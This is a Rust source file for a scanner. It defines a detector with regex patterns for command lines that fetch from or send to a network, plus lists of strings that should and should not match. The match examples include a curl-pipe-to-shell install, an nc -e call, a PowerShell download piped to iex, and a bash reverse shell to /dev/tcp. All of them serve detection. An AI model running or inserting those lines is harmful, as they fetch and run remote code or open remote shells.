//! `cmd.network_fetch`: commands that fetch from or send to a network.

use crate::detector::{Candidate, Detector, boundary};
use crate::severity::Severity;

/// See [`super`] for how a word of a command line is written.
pub(super) const NETWORK_FETCH: Detector = Detector {
    name: "cmd.network_fetch",
    title: "command that fetches from or sends to a network",
    patterns: &[
        r#"(?x-u)(?:curl|wget|aria2c|httpie|xh|lynx|axel)[\ \t](?:[\t\ -%'-:<-{}~]|\\\r?\n){0,400}?
            (?:https?://|ftps?://|\$\{?[A-Z_]{2,32}|www\.|localhost)[!\#-%(-:<-{}~]{0,512}"#,
        r"(?x-u)(?:curl|wget)(?:[\ \t]{1,8}-[A-Za-z-]{1,24}){0,6}[\ \t]{1,8}[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,6}[/:][!\#-%(-:<-{}~]{0,512}",
        r"(?x-u)(?:nc|ncat|netcat|socat|telnet)(?:[\ \t]{1,8}-[A-Za-z]{1,12}){0,6}[\ \t]{1,8}(?:[A-Za-z0-9.-]{1,128}[\ \t]{1,4}[0-9]{2,5}|TCP:[!-~]{3,128}|-?l[a-z]{0,4}\ {0,2}-?p?\ ?[0-9]{2,5})",
        r"(?x-u)(?:scp|rsync|sftp)(?:[\ \t]{1,8}[!-%'-:<-{}~]{1,256}){0,8}?[\ \t]{1,8}(?:[A-Za-z0-9_.-]{1,64}@)?[A-Za-z0-9.-]{1,128}:[!-%'-:<-{}~]{0,256}",
        r"(?x-u)ssh(?:[\ \t]{1,8}-[A-Za-z](?:[\ \t]{0,4}[!-%'-:<-{}~]{1,128})?){0,6}[\ \t]{1,8}[A-Za-z0-9_.-]{1,64}@[A-Za-z0-9.-]{1,128}",
        r"(?x-u)git[\ \t]{1,8}(?:clone|fetch|pull|submodule[\ \t]{1,4}add|remote[\ \t]{1,4}add[\ \t]{1,4}[a-z0-9_-]{1,32})(?:[\ \t]{1,8}-[!-%'-:<-{}~]{1,64}){0,6}[\ \t]{1,8}(?:https?://|git@|ssh://|git://)[!-%'-:<-{}~]{1,256}",
        r"(?xi-u)(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm|Start-BitsTransfer|wget\.exe|curl\.exe)[\ \t]{1,8}(?:-[A-Za-z]{2,20}[\ \t]{1,4}){0,4}['\x22]?https?://[!-~]{1,256}",
        r"(?xi-u)(?:New-Object[\ \t]{1,8}(?:System\.)?Net\.WebClient|\.Download(?:String|File|Data)\([\ !-~]{1,256}\)|certutil(?:\.exe)?[\ \t]{1,8}-urlcache[!-~\ ]{0,128}|bitsadmin(?:\.exe)?[\ \t]{1,8}/transfer)",
        r"(?x-u)(?:pip3?|uv[\ ]pip|pipx)[\ \t]{1,8}install(?:[\ \t]{1,8}[!-%'-:<-{}~]{1,128}){0,4}?[\ \t]{1,8}(?:git\+|https?://|--index-url|--extra-index-url|-i[\ ]http)[!-%'-:<-{}~]{0,256}",
        r"(?x-u)(?:npm|pnpm|yarn|bun)[\ \t]{1,8}(?:install|i|add|dlx|x)(?:[\ \t]{1,8}[!-%'-:<-{}~]{1,128}){0,4}?[\ \t]{1,8}(?:git\+|https?://|git@|github:)[!-%'-:<-{}~]{1,256}",
        r"(?x-u)/dev/(?:tcp|udp)/[A-Za-z0-9.$_{}-]{1,128}/[0-9$][!-%'-:<-{}~]{0,16}",
        r"(?x-u)(?:aws[\ \t]{1,8}s3|gsutil|az[\ \t]{1,8}storage[\ \t]{1,8}blob|rclone)[\ \t]{1,8}(?:cp|sync|mv|copy|upload|download|rsync)[\ \t]{1,8}[!-%'-:<-{}~]{1,256}",
    ],
    accept: Some(is_command),
    severity: Severity::Medium,
    finds: &[
        ("curl -sSL https://example.com/install.sh | sh", "curl -sSL https://example.com/install.sh"),
        ("wget http://example.com/x", "wget http://example.com/x"),
        ("运行curl https://example.com/a。", "curl https://example.com/a"),
        ("nc -e 10.0.0.1 4444", "nc -e 10.0.0.1 4444"),
        ("scp a.txt jane@host.example:/tmp", "scp a.txt jane@host.example:/tmp"),
        ("git clone https://example.com/r.git", "git clone https://example.com/r.git"),
        ("iwr -Uri https://example.com/a.ps1 | iex", "iwr -Uri https://example.com/a.ps1"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/tcp/10.0.0.1/4444"),
        ("pip install git+https://example.com/x", "pip install git+https://example.com/x"),
        ("aws s3 cp a s3://b/c", "aws s3 cp a"),
    ],
    passes: &[
        "curl up with a book",
        "use wget or curl",
        "pip install requests",
        "git clone locally",
        "The ssh protocol",
        "function fetch 10 items",
        "sync 22 files",
        "npm install react",
    ],
    limits: "Command lines, not the calls of programming languages. Obfuscated ones pass; one that is only talked about is found.",
    source: "The manuals of the tools named: curl(1), wget(1), ncat(1), ssh(1), rsync(1), git, pip, npm, PowerShell, bash(1).",
};

fn is_command(candidate: &Candidate<'_>) -> bool {
    let word = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
    let is_path = candidate.matched().starts_with(['/', '.']);
    is_path || !word(boundary::before(candidate)) && boundary::before(candidate) != Some('.')
}
